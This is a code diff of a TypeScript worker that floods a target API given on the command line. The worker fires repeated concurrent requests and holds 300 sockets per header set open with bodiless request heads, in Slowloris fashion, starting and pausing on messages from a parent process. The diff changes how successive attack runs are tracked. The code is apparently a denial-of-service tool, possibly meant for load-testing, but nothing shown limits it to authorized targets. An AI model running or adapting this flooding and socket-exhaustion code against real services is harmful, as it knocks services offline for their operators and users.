@@ -26,7 +26,9 @@ const target = JSON.parse(process.argv[2] ?? '{}') as Target
 const { hostname, port, host } = new URL(target.api)
 const agent = new Agent({ keepAlive: true, maxSockets: Number.POSITIVE_INFINITY })
 const counts: Record<string, number> = {}
-let attacking = false
+/** The number of the present attack; requests of earlier ones that are still in progress are not repeated. */
+let attack: number | undefined
+let attacks = 0
 
 const count = (outcome: string): void => void (counts[outcome] = (counts[outcome] ?? 0) + 1)
 
@@ -76,8 +78,8 @@ const SOCKETS_PER_HEAD = 300
 const REOPEN_MS = 100
 
 /** Sends a head without a body, again after each disconnection. */
-const holdOpen = async (head: string): Promise<void> => {
-  while (attacking) {
+const holdOpen = async (head: string, own: number): Promise<void> => {
+  while (attack === own) {
     const socket: Socket = connect(Number(port), hostname)
     socket.on('error', () => undefined).on('data', () => undefined)
     socket.write(head)
@@ -90,19 +92,21 @@ const holdOpen = async (head: string): Promise<void> => {
 }
 const held = new Set<Socket>()
 
-const repeat = async (asked: Asked): Promise<void> => {
-  while (attacking) await ask(asked)
+const repeat = async (asked: Asked, own: number): Promise<void> => {
+  while (attack === own) await ask(asked)
 }
 
 process.on('message', (message: 'begin' | 'pause') => {
-  attacking = message === 'begin'
-  if (!attacking) {
+  if (message === 'pause') {
+    attack = undefined
     for (const socket of held) socket.destroy()
     process.send?.(counts)
     return
   }
-  for (const [concurrent, asked] of requests) for (let n = 0; n < concurrent; n++) void repeat(asked)
-  for (const head of heads) for (let n = 0; n < SOCKETS_PER_HEAD; n++) void holdOpen(head)
+  const own = (attacks += 1)
+  attack = own
+  for (const [concurrent, asked] of requests) for (let n = 0; n < concurrent; n++) void repeat(asked, own)
+  for (const head of heads) for (let n = 0; n < SOCKETS_PER_HEAD; n++) void holdOpen(head, own)
 })
 process.on('disconnect', () => process.exit())
 process.send?.({})
